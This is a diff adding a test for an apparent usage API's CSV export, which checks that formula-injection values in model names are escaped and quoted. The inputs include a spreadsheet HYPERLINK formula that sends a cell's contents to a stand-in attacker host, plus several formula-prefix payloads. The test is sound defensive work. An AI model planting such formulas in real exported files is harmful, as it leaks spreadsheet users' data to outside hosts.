@@ -209,3 +209,39 @@ test("#8 a next link with user:password on the API origin is refused, never foll
     outcome: "not followed (no Basic auth request); foreign_link_refused + sync_failed; still connected; next run exact",
   });
 });
+
+test("#6 usage CSV: formula cells neutralised, RFC 4180 quoting (bare CR too), numbers numeric, sent as an attachment", async () => {
+  const models = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)", "\tx", "a\rb"];
+  const truth = generatePredictions({ count: 120, days: 2, seed: 611, idPrefix: "c" }).map((p, i) => ({
+    ...p,
+    model: models[i % models.length]!,
+  }));
+  const { id } = await connect("csvinjection", truth);
+  await waitForSyncedSince(h, id, null);
+  const [from, to] = ["2020-01-01", "2099-12-31"];
+  const res = await api("GET", `/v1/usage?connectionId=${id}&from=${from}&to=${to}&groupBy=model&format=csv`);
+  expect(res.status).toBe(200);
+  expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
+  expect(res.headers.get("content-disposition")).toBe(`attachment; filename="usage-${from}-${to}.csv"`);
+  const rows = res.text.split("\n");
+  expect(rows[0]).toBe("model,predictions,succeeded,failed,canceled,aborted,inProgress,other,computeSeconds,meteredPredictions");
+  expect(rows.pop()).toBe("");
+  expect(rows.slice(1)).toHaveLength(models.length);
+  for (const expected of [
+    `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",20,`,
+    `'+1,20,`,
+    `'-2,20,`,
+    `'@SUM(A1),20,`,
+    `'\tx,20,`,
+    `"a\rb",20,`,
+  ]) {
+    expect(rows.filter((r) => r.startsWith(expected))).toHaveLength(1);
+  }
+  // Numbers stay numbers: every cell after the model is a plain decimal.
+  for (const row of rows.slice(1)) expect(row.slice(row.indexOf(",20,") + 1)).toMatch(/^20(,\d+(\.\d+)?){8}$/);
+  recordScenario({
+    scenario: "#6 CSV injection",
+    injected: "model names =HYPERLINK(…), +1, -2, @SUM(A1), \\tx, a\\rb",
+    outcome: "formula cells prefixed with ', quoted per RFC 4180 (bare CR too), numbers unchanged; Content-Disposition attachment",
+  });
+});
